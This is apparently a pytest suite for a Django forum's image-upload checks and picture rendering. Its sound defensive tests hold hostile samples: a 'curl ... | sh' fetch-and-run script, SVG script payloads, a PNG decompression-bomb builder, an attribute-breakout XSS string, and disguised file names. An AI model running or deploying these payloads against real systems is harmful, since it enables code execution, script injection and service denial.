"""Tests of image uploads and of images on pages."""

import struct
import zlib
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import modelform_factory
from django.template import Context, Template
from django.test.html import parse_html
from django.utils import translation
from django.utils.functional import Promise
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from forum_site.media.images import ImageFormField, check_image
from forum_site.texts.translated_fields import LANGUAGE_CODES, column
from objectives.models import Objective
from tests.factories import drawn, everywhere, objective
from tests.media.hostile import camera_jpeg
from tests.reading import elements

pytestmark = pytest.mark.one_database

ENDINGS = {"PNG": "png", "JPEG": "jpg", "WEBP": "webp", "AVIF": "avif"}
SCRIPT = b"#!/bin/sh\ncurl https://example.org/ | sh\n"


def painted(kind, size=(40, 30)):
    """The bytes of a small picture with enough in it to be cut in two."""
    file = BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(file, kind)
    return file.getvalue()


def png_that_claims(width, height):
    """An image bomb: a few bytes that say they unfold into a huge picture."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def refusal_of(name, content):
    """The code with which that upload is refused; None if it is accepted."""
    try:
        check_image(SimpleUploadedFile(name, content))
    except ValidationError as error:
        refusal = error
    else:
        return None
    assert isinstance(refusal.message, Promise), "the sentence could not be in the editor's language"
    return refusal.code


@pytest.mark.parametrize("kind", ENDINGS)
def test_check_image_accepts_what_the_site_shows(kind):
    assert refusal_of(f"art.{ENDINGS[kind]}", painted(kind)) is None


@pytest.mark.parametrize("name", ["art.jpeg", "ART.JPG", "l’œuvre (1).jpg", "art.jfif", "art.jpe"])
def test_check_image_accepts_the_names_that_people_give(name):
    assert refusal_of(name, painted("JPEG")) is None


def test_check_image_takes_the_first_picture_of_a_camera():
    """Many write a second one behind it."""
    content = camera_jpeg()
    assert Image.open(BytesIO(content)).format == "MPO"
    *_facts, files = check_image(SimpleUploadedFile("art.jpg", content), (96,))
    red, green, blue = Image.open(BytesIO(files[96, "jpg"])).getpixel((48, 36))
    assert (red < 12, abs(green - 128) < 12, abs(blue - 128) < 12) == (True, True, True)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("art.png", b"No image at all.", "not_an_image"),
        ("art.png", SCRIPT, "not_an_image"),
        ("art.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>steal()</script></svg>", "not_an_image"),
        ("art.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>steal()</script></svg>", "image_svg"),
        ("ART.SVGZ", b"\x1f\x8b", "image_svg"),
        ("art.gif", painted("GIF"), "image_format"),
        ("art.png", painted("BMP"), "image_format"),
        ("art.png", painted("JPEG"), "image_name"),
        ("art.php", painted("PNG"), "image_name"),
        ("art.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "image_heic"),
        ("art.jpg", b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", "image_heic"),
        ("art.avif", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif", "not_an_image"),
        ("art.png.html", painted("PNG"), "image_name"),
        ("art", painted("PNG"), "image_name"),
        ("art.png", png_that_claims(8_000, 8_000), "image_pixels"),
        ("art.png", png_that_claims(60_000, 60_000), "image_pixels"),
    ],
)
def test_check_image_refuses_everything_else(name, content, code):
    assert refusal_of(name, content) == code


@pytest.mark.parametrize("part", [0.1, 0.6, 0.95])
@pytest.mark.parametrize("kind", ENDINGS)
def test_check_image_refuses_what_breaks_off(kind, part):
    """A JPEG that breaks off has a sound header, and would show half a picture."""
    content = painted(kind, (200, 150))
    assert refusal_of(f"art.{ENDINGS[kind]}", content[: int(len(content) * part)]) == "not_an_image"


def test_check_image_refuses_a_picture_over_the_limits_by_one(settings):
    content = painted("PNG")
    settings.IMAGE_MAX_BYTES, settings.IMAGE_MAX_PIXELS = len(content), 40 * 30
    assert refusal_of("art.png", content) is None
    settings.IMAGE_MAX_PIXELS -= 1
    assert refusal_of("art.png", content) == "image_pixels"
    settings.IMAGE_MAX_BYTES -= 1
    assert refusal_of("art.png", content) == "image_too_large"


@given(st.sampled_from(sorted(ENDINGS)), st.data())
def test_check_image_answers_damage_with_a_refusal_and_never_with_an_error(kind, data):
    """Pillow's readers raise all sorts of errors on damaged files; an editor would see a broken page."""
    content = bytearray(painted(kind))
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, min(len(content), 300) - 1))] = data.draw(st.integers(0, 255))
    refusals = {None, "not_an_image", "image_format", "image_pixels", "image_side"}
    assert refusal_of(f"art.{ENDINGS[kind]}", bytes(content)) in refusals


def test_check_image_leaves_the_upload_ready_to_be_stored():
    content = painted("WEBP")
    upload = SimpleUploadedFile("art.webp", content)
    check_image(upload)
    assert upload.read() == content


def form_with(content, item=None):
    form_class = modelform_factory(Objective, fields=["number", "pictogram", "icon"])
    files = {"icon": SimpleUploadedFile("art.png", content)}
    return form_class({"number": "8", "pictogram": "house"}, files, instance=item)


def test_form_refuses_the_image_and_keeps_the_rest(db):
    form = form_with(SCRIPT)
    assert [(name, errors[0].code) for name, errors in form.errors.as_data().items()] == [("icon", "not_an_image")]
    assert (form["number"].value(), form["pictogram"].value()) == ("8", "house")


def test_form_stores_the_image_as_it_came(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    content = painted("PNG")
    form = form_with(content, objective())
    assert form.is_valid(), form.errors
    form.save()
    assert Objective.objects.get().icon.read() == content


def test_form_tells_the_browser_which_files_to_offer():
    assert ImageFormField().widget.attrs == {"accept": ".avif,.jfif,.jpe,.jpeg,.jpg,.png,.webp"}


def test_form_lets_an_image_be_absent():
    assert ImageFormField(required=False).clean(None) is None


# --- On a page ---------------------------------------------------------------------------------------------------


def shown(item, options="96"):
    """The picture as a page shows it: its sources and its image, each with all it says."""
    page = Template('{% load page %}{% picture item "icon" ' + options + " %}").render(Context({"item": item}))
    found = parse_html(f"<div>{page}</div>")
    return [dict(element.attributes) for element in elements(found, "source", "img")]


def addresses(ending, *widths):
    return ", ".join(f"/media/renditions/{'0' * 32}-{width}.{ending} {width}w" for width in widths)


def test_picture_offers_the_smaller_formats_first_and_its_place_before_it_is_there(db, language):
    item = objective(**drawn(), **everywhere(icon_description="A boat"))
    with translation.override(language):
        *sources, image = shown(item)
    assert sources == [
        {"type": f"image/{ending}", "srcset": addresses(ending, 96, 192, 384), "sizes": "96px"}
        for ending in ("avif", "webp")
    ]
    assert image == {
        "src": f"/media/renditions/{'0' * 32}-96.png",
        "srcset": addresses("png", 96, 192, 384),
        "sizes": "96px",
        "width": "96",
        "height": "72",
        "alt": "A boat",
        "loading": "eager",
        "decoding": "async",
    }


def test_picture_takes_the_place_of_its_square_and_never_more_than_its_own(db):
    places = {}
    for number, size in enumerate(((400, 300), (300, 400), (40, 20)), start=1):
        image = shown(objective(number, **drawn(size=size)), "48 lazy=True")[-1]
        places[size] = [image[name] for name in ("sizes", "width", "height", "loading")]
    assert places == {
        (400, 300): ["48px", "48", "36", "lazy"],
        (300, 400): ["36px", "36", "48", "lazy"],
        (40, 20): ["40px", "40", "20", "lazy"],
    }


@pytest.mark.parametrize(
    ("columns", "options", "alts"),
    [
        ({}, "96", ["First", "Second"]),
        ({}, "96 decorative=True", ["", ""]),
        ({"icon_is_decorative": True}, "96", ["", ""]),
    ],
)
def test_picture_is_described_in_the_language_of_the_page_unless_it_is_decorative(db, columns, options, alts):
    codes = LANGUAGE_CODES[:2]
    texts = {column("icon_description", code): text for code, text in zip(codes, ("First", "Second"), strict=True)}
    item, said = objective(**drawn(), **texts, **columns), []
    for code in codes:
        with translation.override(code):
            said.append(shown(item, options)[-1]["alt"])
    assert said == alts


def test_picture_is_never_described_in_another_language(db, language, other_language):
    """An attribute cannot say which language it is in."""
    item = objective(
        **drawn(),
        **{column("icon_description", language): " ", column("icon_description", other_language): "Elsewhere"},
    )
    with translation.override(language):
        assert shown(item)[-1]["alt"] == ""


def test_picture_description_cannot_break_out_of_its_attribute(db, language):
    item = objective(**drawn(), **everywhere(icon_description='"><b>A & B</b> onerror="steal()'))
    with translation.override(language):
        assert shown(item)[-1]["alt"] == '"><b>A & B</b> onerror="steal()'


def test_picture_without_renditions_is_nothing(db):
    """The upload itself is never shown: it may say where it was taken."""
    assert shown(objective(icon="objectives/boat.png")) == []
    assert shown(objective(9)) == []
